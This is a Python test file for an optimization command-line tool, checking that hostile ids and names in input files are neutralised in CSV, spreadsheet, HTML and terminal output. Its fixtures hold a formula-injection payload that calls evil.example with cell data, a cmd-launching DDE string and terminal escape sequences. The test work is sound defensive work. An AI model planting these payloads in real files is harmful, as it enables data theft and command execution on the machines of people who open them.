"""Files from other agencies are safe to open (issue 15): an id or a name from an instance
never runs as a spreadsheet formula, a terminal escape sequence, or a mathtext formula
(which crashed every command that draws a chart)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import tiny_doc

from optimizer.cli import main
from optimizer.safe_text import console_text, csv_cell, plain

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ESCAPES = "\x1b[31mred\x1b]0;retitled\x07\x9b2J"
MATHTEXT = "$\\undefinedmacro$ {{{{{{{{x}}}}}}}}"


def _evil(folder: Path) -> Path:
    """tiny with a formula for a node id, escapes in the name, mathtext in scenario ids."""
    doc = tiny_doc()
    doc["name"] = f"tiny {MATHTEXT} {ESCAPES}"
    text = json.dumps(doc).replace('"A"', json.dumps(FORMULA))
    doc = json.loads(text)
    for n, scenario in enumerate(doc["scenarios"]):
        scenario["id"] = f"{MATHTEXT} {n}"
    doc["depots"][0]["id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path = folder / "evil.json"
    path.write_text(json.dumps(doc))
    return path


def _ok(args: list[str]) -> str:
    ran = CliRunner().invoke(main, args)
    assert ran.exit_code == 0, ran.output + ran.stderr
    return ran.output + ran.stderr


def test_cells_that_would_start_a_formula_are_neutralised() -> None:
    for text in ("=1+1", "+1+1", "-1+cmd", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert csv_cell(text) == "'" + text
    for value in ("-0.5", "+3", "-1e-3", "plain", "", 1.5, -2, None):
        assert csv_cell(value) == value


def test_control_characters_never_reach_a_terminal() -> None:
    assert plain(ESCAPES) == "[31mred]0;retitled2J"
    assert plain("a\nb\tc") == "a\nb\tc"
    assert console_text("[bold]x[/bold]\x1b") == "\\[bold]x\\[/bold]"


def test_every_output_of_an_evil_instance_is_inert(tmp_path: Path) -> None:
    source = _evil(tmp_path)
    result, html = tmp_path / "r.json", tmp_path / "r.html"
    printed = _ok(["solve", str(source), "-o", str(result), "--report", str(html)])
    assert "\x1b" not in printed and "\x07" not in printed and "\x9b" not in printed
    assert "retitled" in printed  # the text stays, inert
    assert MATHTEXT.split()[0] in html.read_text()  # drawn as plain text, no crash

    tables = tmp_path / "r"
    _ok(["report", str(result), "-o", f"{tables}/"])
    cells = [c for table in tables.glob("*.csv")
             for row in csv.reader(io.StringIO(table.read_text())) for c in row]
    assert "'" + FORMULA in cells
    # The spreadsheet: the same text is a string cell, never a formula.
    from openpyxl import load_workbook

    _ok(["report", str(result), "-o", str(tmp_path / "r.xlsx")])
    book = load_workbook(tmp_path / "r.xlsx")
    values = [c.value for ws in book for row in ws.iter_rows() for c in row]
    assert "'" + FORMULA in values
    assert not [c for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
            and not _number(c)]
    assert live == []

    _ok(["report", str(result), "-o", str(tmp_path / "r.md")])
    _ok(["compare", str(result), str(result), "-o", str(tmp_path / "c.html"),
         "--labels", "$\\bad$,$\\worse{$"])
    printed = _ok(["report", str(result), "-o", "-"])
    assert "\x1b]" not in printed


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["png", "svg"])
def test_the_frontier_picture_takes_mathtext_as_text(tmp_path: Path, fmt: str) -> None:
    source = _evil(tmp_path)
    picture = tmp_path / f"frontier.{fmt}"
    _ok(["sweep", str(source), "--budgets", "100,150", "-o", str(tmp_path / "f.csv"),
         "--plot", str(picture)])
    assert picture.stat().st_size > 0
